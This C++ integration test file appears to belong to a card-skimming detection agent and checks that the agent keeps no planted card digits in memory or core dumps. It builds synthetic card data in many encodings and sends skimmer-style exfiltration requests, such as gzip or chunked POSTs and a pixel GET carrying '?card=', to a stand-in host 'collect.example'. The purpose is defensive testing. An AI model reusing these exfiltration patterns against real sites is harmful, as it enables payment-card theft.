// No digit of a number stays in the agent's memory (docs/threat-model.md). The real programs run on
// planted numbers, and then, while they still live, all memory that they can write is searched.

#include <sys/resource.h>
#include <unistd.h>

#include <cstddef>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_join.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/integration/support/process_memory.h"
#include "tests/integration/support/web_server.h"

namespace skimwatch::integration {
namespace {

using ::testing::HasSubstr;

// Stands in the program's memory by right: the name of a file that it is told to look at.
constexpr char kControl[] = "control-qzwxecrvtbynumik";

// WaitUntil counts its looks, of 10 ms; a search is a long one.
constexpr absl::Duration kTenLooks = absl::Milliseconds(100);

std::string Leaks(const MemoryReport& report) {
  return absl::StrCat(report.leak_count, " in ", report.regions, " regions of ", report.bytes_read,
                      " bytes:\n", absl::StrJoin(report.leaks, "\n"));
}

void ExpectNothing(pid_t pid, size_t cards) {
  const MemoryReport report = SearchMemory(pid, DigitSearch(cards, kControl));
  ASSERT_EQ(report.error, "");
  EXPECT_GT(report.controls, 0u) << "the search sees nothing";
  EXPECT_EQ(report.leak_count, 0u) << Leaks(report);
  // The kernel's own pages ([vvar]) are not writable; all else can be read.
  EXPECT_EQ(report.bytes_unreadable, 0u);
  ::testing::Test::RecordProperty("bytes_searched", std::to_string(report.bytes_read));
}

// One number in each of the forms that the scan undoes, and some more.
std::string Planted(size_t card) {
  const std::string number = CardNumber(card);
  switch (card % 8) {
    case 0:
      return absl::StrCat("card_number=", number, "&exp=12%2F29&cvv=123\n");
    case 1:
      return absl::StrCat(R"({"cardNumber":")", number, "\",\"expiry\":\"12/29\"}\n");
    case 2:
      return absl::StrCat("d=", absl::Base64Escape("card=" + number + "&e=12/29"), "\n");
    case 3:
      return absl::StrCat("d=", absl::WebSafeBase64Escape("{\"pan\":\"" + number + "\"}"), "\n");
    case 4:
      return absl::StrCat("data: ", absl::BytesToHexString("pan=" + number), "\n");
    case 5:
      return absl::StrCat("card ", number.substr(0, 4), " ", number.substr(4, 4), " ",
                          number.substr(8, 4), " ", number.substr(12), "\n");
    case 6: {
      std::string escaped = "card%3D";
      for (const char c : number) absl::StrAppend(&escaped, "%3", std::string(1, c));
      return escaped + "\n";
    }
    default:
      return absl::StrCat(";", number, "=29121010000000000000?\n");
  }
}

std::string PlantedText(size_t first, size_t end) {
  std::string text;
  for (size_t card = first; card < end; ++card) text += Planted(card);
  return text;
}

TEST(DigitSearch, FindsNumbersInEveryFormOverBordersAndNoMask) {
  constexpr size_t kCards = 50;
  const DigitSearch search(kCards, kControl);
  const auto found = [&](std::string_view bytes) {
    MemoryReport report;
    search.Look(bytes, "here", 0, report);
    return report;
  };
  for (const size_t card : {1u, 7u, 49u}) {
    const std::string number = CardNumber(card);
    std::string values = number;
    for (char& c : values) c = static_cast<char>(c - '0');
    EXPECT_EQ(found("x" + number + "y").leak_count, 1u);
    EXPECT_EQ(found("abc" + values).leak_count, 1u);
    EXPECT_EQ(found(absl::BytesToHexString("a" + number)).leak_count, 1u);
    for (const std::string before : {"", "a", "ab"}) {
      EXPECT_EQ(found(absl::Base64Escape(before + number + "zz")).leak_count, 1u) << before;
    }
    EXPECT_EQ(found(number.substr(0, 6) + "******" + number.substr(12)).leak_count, 0u);
  }
  EXPECT_EQ(found(CardNumber(kCards)).leak_count, 0u);
  EXPECT_EQ(found(std::string("a") + kControl).controls, 1u);
}

class Memory : public ::testing::Test {
 protected:
  void SetUp() override {
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
    GTEST_SKIP() << "a sanitizer's heap keeps what was freed";
#endif
    if (geteuid() != 0) GTEST_SKIP() << "needs root: our programs are not dumpable";
  }
};

TEST_F(Memory, OfAScanThatWaitsForMoreHoldsNoNumberOfTheFilesBefore) {
  constexpr size_t kCards = 4000;
  const testing::TempFolder folder;
  const std::string plain = folder.path() + "/" + kControl;
  std::ofstream(plain) << PlantedText(0, 1500);
  std::ofstream(folder.path() + "/packed.gz") << Gzip(PlantedText(1500, 3000));
  // Many small files, on several threads.
  for (size_t card = 3000; card < kCards; card += 10) {
    std::ofstream(absl::StrCat(folder.path(), "/", card, ".txt")) << PlantedText(card, card + 10);
  }
  testing::ChildProcess scan({.command = {SKIMWATCH_BIN_DIR "/skimwatch-agent", "scan", "--format",
                                          "json", "--jobs", "2", folder.path(), "-"}});
  // The folder is done when all was found; then standard input is waited for.
  size_t lines = 0;
  ASSERT_TRUE(scan.ReadUntil([&](const std::string& out) {
    lines = static_cast<size_t>(std::count(out.begin(), out.end(), '\n'));
    return lines >= kCards;
  })) << lines;
  // The thread that found the last is done with it a moment later.
  const DigitSearch search(kCards, kControl);
  ASSERT_TRUE(testing::WaitUntil([&] { return SearchMemory(scan.pid(), search).leak_count == 0; },
                                 kTenLooks))
      << Leaks(SearchMemory(scan.pid(), search));
  ExpectNothing(scan.pid(), kCards);
  scan.CloseInput();
  const testing::Result result = scan.Wait();
  EXPECT_EQ(result.code, 1);
}

TEST_F(Memory, OfAnAgentHoldsNoNumberOfTrafficLogsAndScriptsThatItReported) {
  if (!MayCapture()) GTEST_SKIP() << "needs the right to capture packets (CAP_NET_RAW)";
  constexpr size_t kLogged = 1500;
  constexpr size_t kSent = 2500;
  constexpr size_t kServed = 2600;
  constexpr size_t kMirrored = 2700;
  constexpr size_t kCards = 2800;
  Deployment deployment;
  WebServer web(deployment.site_folder());
  ASSERT_NO_FATAL_FAILURE(web.Start());
  deployment.service_ports = {web.shop_port()};
  ASSERT_NO_FATAL_FAILURE(deployment.StartCollector());
  const std::string log = absl::StrCat(deployment.site_folder(), "/", kControl, ".log");
  std::ofstream(log) << "started\n";
  const int mirror_port = FreePort();
  const std::string root = deployment.site_folder() + "/js";
  std::filesystem::create_directory(root);
  deployment.agent_yaml =
      absl::StrCat("sources:\n  packet_captures: [{ interface: lo, filter: ", web.Filter(),
                   " }]\n  log_files: [{ paths: [", log, "] }]\n  web_roots: [{ path: ", root,
                   " }]\n  http_mirrors: [{ listen: \"127.0.0.1:", mirror_port,
                   "\", direction: outbound }]\nscan: { fold_window_seconds: 1 }\n");
  ASSERT_NO_FATAL_FAILURE(deployment.StartAgentAndWait());

  std::ofstream(log, std::ios::app) << PlantedText(0, kLogged);
  // A connection that stays open for many requests, and others: plain, packed, in chunks, in the
  // target of a request.
  Connection kept(web.outside_port());
  for (size_t card = kLogged; card < kSent; ++card) {
    const std::string body = Planted(card);
    switch (card % 5) {
      case 0:
        Exchange(web.outside_port(),
                 Post("collect.example", "/gz", Gzip(body), "Content-Encoding: gzip\r\n"));
        break;
      case 1:
        Exchange(web.outside_port(),
                 absl::StrCat("POST /chunked HTTP/1.1\r\nHost: collect.example\r\n"
                              "Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n10\r\n",
                              body.substr(0, 16), "\r\n", absl::StrFormat("%x", body.size() - 16),
                              "\r\n", body.substr(16), "\r\n0\r\n\r\n"));
        break;
      case 2:
        Exchange(web.outside_port(), Get("collect.example", "/p.gif?card=" + CardNumber(card)));
        break;
      case 3:
        Exchange(web.outside_port(), Post("collect.example", "/plain", body));
        break;
      default:
        ASSERT_TRUE(kept.Send(absl::StrCat("POST /kept HTTP/1.1\r\nHost: collect.example\r\n",
                                           "Content-Length: ", body.size(), "\r\n\r\n", body)));
    }
  }
  std::ofstream(web.html() + "/receipt.html") << PlantedText(kSent, kServed);
  Exchange(web.shop_port(), Get("shop.example", "/receipt.html"));
  std::ofstream(root + "/app.js") << "var a = [];\n/*" << PlantedText(kServed, kMirrored) << "*/\n";
  for (size_t card = kMirrored; card < kCards; ++card) {
    Exchange(mirror_port, Post("collect.example", "/copied", Planted(card)));
  }

  EXPECT_TRUE(deployment.WaitForCards(kCards));
  EXPECT_TRUE(testing::WaitUntil(
      [&] { return deployment.AgentMetric("skimwatch_spool_pending_findings") == 0; }));
  const DigitSearch search(kCards, kControl);
  EXPECT_TRUE(testing::WaitUntil(
      [&] { return SearchMemory(deployment.agent().pid(), search).leak_count == 0; }, kTenLooks));
  ExpectNothing(deployment.agent().pid(), kCards);
  deployment.ExpectNoNumberKept(kCards);
}

// What keeps a crash from writing memory to a disk; a core_pattern can't be relied on in a test.
TEST(CoreDumps, AreForbiddenToTheAgentAndTheRingIsMarked) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root: our programs are not dumpable";
  if (!MayCapture()) GTEST_SKIP() << "needs the right to capture packets (CAP_NET_RAW)";
  Deployment deployment;
  ASSERT_NO_FATAL_FAILURE(deployment.StartCollector());
  deployment.agent_yaml =
      "sources: { packet_captures: [{ interface: lo, filter: tcp port 9, ring_mib: 1 }] }\n";
  ASSERT_NO_FATAL_FAILURE(deployment.StartAgentAndWait());
  const std::string proc = absl::StrCat("/proc/", deployment.agent().pid());
  EXPECT_THAT(testing::ReadFile(proc + "/limits"),
              ::testing::ContainsRegex("Max core file size +0 +0 "));
  std::istringstream smaps(testing::ReadFile(proc + "/smaps"));
  bool in_ring = false;
  bool ring_is_marked = false;
  for (std::string line; std::getline(smaps, line);) {
    if (line.find("socket:[") != std::string::npos) in_ring = true;
    if (in_ring && line.compare(0, 8, "VmFlags:") == 0) {
      ring_is_marked = line.find(" dd") != std::string::npos;
      in_ring = false;
    }
  }
  EXPECT_TRUE(ring_is_marked);
  const int status = deployment.StopAgent(SIGABRT);
  ASSERT_TRUE(WIFSIGNALED(status));
  EXPECT_FALSE(WCOREDUMP(status));
}

}  // namespace
}  // namespace skimwatch::integration
